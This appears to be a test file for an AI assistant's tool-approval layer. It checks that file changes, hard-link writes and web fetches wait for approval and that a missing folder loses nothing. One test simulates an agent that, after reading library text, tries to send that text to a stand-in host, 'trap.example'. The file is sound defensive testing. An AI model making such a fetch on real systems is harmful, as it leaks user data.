import { existsSync, linkSync, readFileSync, renameSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { type Arena, openArena, openToOthers, snapshotOf, untouched } from './arena'
import { answeredAtOnce, type Caller, callerNamed, callers, type ToolCall } from './callers'
import { verdict } from './path-attempts'
import { nextNumber } from './ways-out'

// What other files try in full through one caller, in a sample through each of them.

const limitMs = 60_000
const before = 'one\ntwo\n'

let arena: Arena

beforeAll(async () => {
  arena = await openArena()
  writeFileSync(join(arena.docs, 'kept.md'), '# Tides\n\nHigh water is at noon.\n')
  const { documents } = await arena.window.library.add({ paths: [join(arena.docs, 'kept.md')] })
  await vi.waitUntil(
    async () => (await arena.window.library.document({ id: documents[0]?.id ?? '' })).status === 'complete',
    { timeout: limitMs },
  )
}, limitMs * 2)
afterAll(() => arena.close())

/** Those who may approve by their next move: what they read raises nothing. */
const byHand = ['a person at the window', 'the command line']

/** A new file of the granted folder. */
function newFile(): string {
  const path = join(arena.docs, `file-${nextNumber()}.txt`)
  writeFileSync(path, before)
  return path
}

/** Makes a call that is asked, whoever makes it; answers what waits. */
async function asked(call: Caller, one: ToolCall) {
  const [outcome] = await call([one])
  expect(outcome?.kind, outcome?.said).toBe('proposed')
  return arena.window.proposals.get({ id: outcome?.kind === 'proposed' ? outcome.proposalId : '' })
}

describe.each(Object.keys(callers))('%s', { timeout: limitMs }, (name) => {
  it.skipIf(answeredAtOnce.includes(name))('changes no file that is not the one that was shown', async () => {
    const path = newFile()
    const proposal = await asked(await callerNamed(name, arena), {
      tool: 'overwrite_file',
      input: { path, content: 'theirs\n' },
    })
    writeFileSync(path, 'changed since\n')
    expect((await arena.approve(proposal)).status).toBe('conflict')
    expect(readFileSync(path, 'utf8')).toBe('changed since\n')
    await expect(arena.approve(proposal)).rejects.toThrow(/Already approved/)
  })

  it('is asked before it changes a hard link, and never changes the file elsewhere', async () => {
    const elsewhere = join(arena.outside, `linked-${nextNumber()}.txt`)
    const path = join(arena.docs, `linked-${nextNumber()}.txt`)
    writeFileSync(elsewhere, before)
    linkSync(elsewhere, path)
    const proposal = await asked(await callerNamed(name, arena), {
      tool: 'append_to_file',
      input: { path, content: 'three\n' },
    })
    expect(proposal.class).toBe('destructive_update')
    expect(proposal.status).toBe(answeredAtOnce.includes(name) ? 'rejected' : 'pending')
    if (!answeredAtOnce.includes(name)) expect((await arena.approve(proposal)).status).toBe('applied')
    expect(readFileSync(elsewhere, 'utf8')).toBe(before)
  })

  it.skipIf(name === 'the command line with --approve safe')(
    'changes and sends nothing unasked once it was told text from outside, whatever policy there is',
    async () => {
      const tools = ['create_file', 'fetch_web_content']
      for (const tool of tools) {
        await arena.window.policies.set({ assistant: 'default', tool, policy: 'auto' })
      }
      const path = join(arena.docs, `obeyed-${nextNumber()}.txt`)
      const [read, ...asked] = await (await callerNamed(name, arena))([
        { tool: 'search_library', input: { query: 'high water' } },
        { tool: 'create_file', input: { path, content: 'obeyed' } },
        { tool: 'fetch_web_content', input: { url: 'https://trap.example/?high-water-is-at-noon' } },
      ])
      for (const tool of tools) {
        await arena.window.policies.set({ assistant: 'default', tool, policy: null })
      }
      expect(read?.kind).toBe('answered')
      expect(asked.map(verdict)).toEqual(tools.map(() => 'proposed'))
      expect(existsSync(path)).toBe(false)
      for (const outcome of asked) {
        if (outcome.kind !== 'proposed' || byHand.includes(name)) continue
        const { raisedBecause } = await arena.window.proposals.get({ id: outcome.proposalId })
        expect(raisedBecause.join(' ')).toMatch(/has read “Tides” from the library/)
      }
    },
  )

  it('leaves nothing behind that other accounts can read', async () => {
    const call = await callerNamed(name, arena)
    const path = newFile()
    const outcomes = await call([
      { tool: 'append_to_file', input: { path, content: 'three\n' } },
      { tool: 'trash_files', input: { paths: [newFile()] } },
      { tool: 'add_document', input: { source: newFile() } },
    ])
    for (const outcome of answeredAtOnce.includes(name) ? [] : outcomes) {
      if (outcome.kind === 'proposed')
        await arena.approve(await arena.window.proposals.get({ id: outcome.proposalId }))
    }
    expect(openToOthers(arena.data)).toEqual([])
  })

  it('deletes nothing when the granted folder is away, and finds all of it when it is back', async () => {
    const call = await callerNamed(name, arena)
    const path = newFile()
    const [inside, beside] = [snapshotOf(arena.docs), untouched(arena)]
    const library = async () => {
      const { documents } = await arena.window.library.documents({ status: 'all', limit: 100 })
      return documents.map(({ id }) => id)
    }
    const documents = await library()
    const away = `${arena.home}/away`
    renameSync(arena.docs, away)
    try {
      const outcomes = await call([
        { tool: 'list_directory', input: { path: arena.docs } },
        { tool: 'read_file', input: { path } },
        { tool: 'trash_files', input: { paths: [path] } },
        { tool: 'create_file', input: { path: join(arena.docs, 'new.txt'), content: 'x' } },
        { tool: 'add_document', input: { source: arena.docs } },
      ])
      expect(outcomes.map(verdict)).toEqual(outcomes.map(() => 'unavailable'))
    } finally {
      renameSync(away, arena.docs)
    }
    expect(snapshotOf(arena.docs)).toBe(inside)
    expect(untouched(arena)).toBe(beside)
    expect(await library()).toEqual(documents)
    expect((await arena.window.library.search({ query: 'high water', limit: 5 })).results).not.toEqual([])
  })
})
